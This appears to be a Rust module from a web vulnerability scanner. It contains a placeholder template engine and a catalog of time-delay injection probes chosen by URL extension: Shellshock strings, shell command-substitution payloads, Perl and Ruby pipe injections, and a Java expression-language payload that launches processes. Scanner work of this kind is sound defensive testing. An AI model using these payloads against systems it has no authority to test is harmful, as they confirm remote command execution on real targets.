//! probe catalog: payload templates organized by target language/technology
//!
//! Payload templates carry named slots (`${time}` for time-delay probes) that are
//! filled at attack time via [`Template`]. The catalog's entries are designed to
//! delay the response by the substituted number of seconds when the application
//! evaluates the injected input as code.
use std::collections::HashMap;

use url::Url;

use crate::error::FeroxScanError;

/// explicit placeholder substitution over text
///
/// The syntax is intentionally tiny: `${name}` is a slot, `$$` renders a literal
/// `$`, and a `$` followed by anything else is itself literal. [`Template::escape`]
/// maps untrusted text into this syntax so slot values can never collide with
/// template syntax that was already present in the input.
///
/// # Examples
///
/// ```
/// # use std::collections::HashMap;
/// # use feroxscan::payloads::Template;
/// # fn main() -> Result<(), feroxscan::error::FeroxScanError> {
/// let template = Template::new("sleep ${time} # costs $$5");
///
/// let mut values = HashMap::new();
/// values.insert("time", String::from("11"));
///
/// assert_eq!(template.substitute(&values)?, "sleep 11 # costs $5");
/// # Ok(())
/// # }
/// ```
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Template {
    source: String,
}

impl Template {
    /// wrap template text
    pub fn new(source: impl Into<String>) -> Self {
        Self {
            source: source.into(),
        }
    }

    /// the raw template text
    #[must_use]
    pub fn source(&self) -> &str {
        &self.source
    }

    /// escape every template delimiter in `text` so that a later
    /// [`substitute`](Self::substitute) reproduces `text` verbatim
    #[must_use]
    pub fn escape(text: &str) -> String {
        text.replace('$', "$$")
    }

    /// produce the template text with every slot replaced by its value from `values`
    ///
    /// # Errors
    ///
    /// fails with [`FeroxScanError::UndefinedTemplateSlot`] when the template
    /// names a slot that `values` doesn't cover
    pub fn substitute(&self, values: &HashMap<&str, String>) -> Result<String, FeroxScanError> {
        let mut out = String::with_capacity(self.source.len());
        let mut rest = self.source.as_str();

        while let Some(position) = rest.find('$') {
            out.push_str(&rest[..position]);
            let after = &rest[position + 1..];

            if let Some(stripped) = after.strip_prefix('$') {
                out.push('$');
                rest = stripped;
            } else if after.starts_with('{') {
                match after.find('}') {
                    Some(end) if is_slot_name(&after[1..end]) => {
                        let name = &after[1..end];

                        let value = values.get(name).ok_or_else(|| {
                            FeroxScanError::UndefinedTemplateSlot {
                                name: name.to_string(),
                            }
                        })?;

                        out.push_str(value);
                        rest = &after[end + 1..];
                    }
                    // `${` without a well-formed slot is literal text
                    _ => {
                        out.push('$');
                        rest = after;
                    }
                }
            } else {
                out.push('$');
                rest = after;
            }
        }

        out.push_str(rest);

        Ok(out)
    }
}

fn is_slot_name(name: &str) -> bool {
    !name.is_empty()
        && name
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
}

/// language/technology tag attached to each time-delay payload template
#[derive(Copy, Clone, Debug, PartialEq, Eq, Hash)]
#[non_exhaustive]
pub enum Language {
    /// php targets (no working delay primitive is currently cataloged)
    Php,

    /// perl/cgi targets
    Perl,

    /// ruby targets
    Ruby,

    /// java targets, via expression-language injection
    Java,

    /// cross-platform shell idioms, attempted against every target
    Any,
}

/// name of the slot carrying the sleep duration, in seconds
pub const TIME_SLOT: &str = "time";

/// time-delay payload templates for one language tag
///
/// each template delays the response by `${time}` seconds when the injected
/// input is evaluated
#[must_use]
pub const fn sleep_payloads(language: Language) -> &'static [&'static str] {
    match language {
        // shell command injection into '$input' on linux and "$input" on
        // windows, plus CVE-2014-6271 / CVE-2014-6278
        Language::Any => &[
            "() { :;}; /bin/sleep ${time}",
            "() { _; } >_[$$($$())] { /bin/sleep ${time}; }",
            "$$(sleep ${time})",
            "`sleep ${time}`",
        ],
        Language::Php => &[],
        Language::Perl => &["/bin/sleep ${time}|"],
        Language::Ruby => &["|sleep ${time} & ping -n ${time} localhost"],
        Language::Java => &[
            r#"$${(new java.io.BufferedReader(new java.io.InputStreamReader(((new java.lang.ProcessBuilder(new java.lang.String[]{"timeout","${time}"})).start()).getInputStream()))).readLine()}$${(new java.io.BufferedReader(new java.io.InputStreamReader(((new java.lang.ProcessBuilder(new java.lang.String[]{"sleep","${time}"})).start()).getInputStream()))).readLine()}"#,
        ],
    }
}

/// map a url's file extension to the languages worth probing
///
/// an empty extension gets a fixed multi-language fallback; an unrecognised
/// one is assumed to be a java app behind a rewrite rule
#[must_use]
pub fn languages_for_extension(extension: &str) -> &'static [Language] {
    match extension {
        "php" | "php3" | "php4" | "php5" => &[Language::Php],
        "pl" | "cgi" => &[Language::Perl],
        "jsp" | "do" | "action" => &[Language::Java],
        "rb" => &[Language::Ruby],
        // nothing language-specific for these; the `Any` union covers them
        "asp" | "aspx" => &[Language::Any],
        "" => &[Language::Php, Language::Ruby, Language::Java],
        _ => &[Language::Java],
    }
}

/// the candidate payload set for a target url: everything tagged for the
/// extension-inferred languages, unioned with the cross-platform `Any` set,
/// deduplicated by payload text
#[must_use]
pub fn candidate_payloads(url: &Url) -> Vec<&'static str> {
    let path = url.path();

    let extension = match path.rfind('.') {
        Some(index) => &path[index + 1..],
        None => "",
    };

    let mut candidates: Vec<&'static str> = Vec::new();

    for &language in languages_for_extension(extension) {
        for &payload in sleep_payloads(language) {
            if !candidates.contains(&payload) {
                candidates.push(payload);
            }
        }
    }

    for &payload in sleep_payloads(Language::Any) {
        if !candidates.contains(&payload) {
            candidates.push(payload);
        }
    }

    candidates
}
